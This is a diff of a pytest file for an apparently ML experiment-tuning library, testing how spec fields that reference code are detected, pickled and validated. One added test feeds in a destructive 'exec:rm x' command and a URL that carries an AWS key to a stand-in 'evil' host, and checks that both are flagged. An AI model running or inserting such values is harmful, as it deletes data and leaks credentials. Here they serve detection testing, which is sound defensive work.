@@ -42,7 +42,9 @@ def test_code_of_lists_all_but_shipped_code():
     assert code_of(shipped) == []
     assert code_of({"trainable": "tuner.shipped.experiments.own_learner:Learner"}) == []
     assert code_of({"trainable": "os:system", "scheduler": "logging.config"}) == []
-    assert code_of({"trainable": 1, "search": [], "scheduler": None}) == []
+    assert code_of({"trainable": 1, "search": [], "scheduler": None, "notify": 3}) == []
+    named = code_of({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", "https://x/s3cret", 3]})
+    assert [code.path for code in named] == ["exec:rm x", "https://evil/${AWS_KEY}"]
 
 
 @pytest.mark.parametrize("dataset", ["digits", "folder:photos", "hf:mnist", "decoded:x", 3, "a:"])
@@ -167,30 +169,24 @@ def test_by_value_local_function_is_marked(value, text):
     assert bare_name(text) in text
 
 
-def test_by_value_spec_dumps_plain_values():
+def test_by_value_spec_dumps_plain_values_and_pickles_its_closure():
     spec = build_spec({**MINIMAL, "trainable": made(2)})
     for text in (spec.to_json(), spec.to_yaml()):
         again = ExperimentSpec.from_text(text)
         assert again == spec
         assert type(again.trainable) is str
     assert type(spec.model_dump(mode="json")["trainable"]) is str
-
-
-def test_by_value_pickles_its_closure():
     sent = ByValue(made(2))
     received = cloudpickle.loads(cloudpickle.dumps(cloudpickle.loads(cloudpickle.dumps(sent))))
     assert received == sent
     assert received.value({"lr": 3}) == 6
 
 
-def test_validate_unpicklable_function_is_refused():
+def test_validate_refuses_what_cannot_be_sent():
     lock = threading.Lock()
     reason = r"trainable: cannot be sent to the workers \(TypeError: cannot pickle '_thread.lock'"
     with pytest.raises(SpecError, match=reason):
         validate(build_spec({**MINIMAL, "trainable": lambda config: lock.locked()}))
-
-
-def test_validate_text_by_value_names_the_argument():
     message = (
         r"trainable: was passed by value, .*: pass it again, from Python, as trainable=train, got"
     )
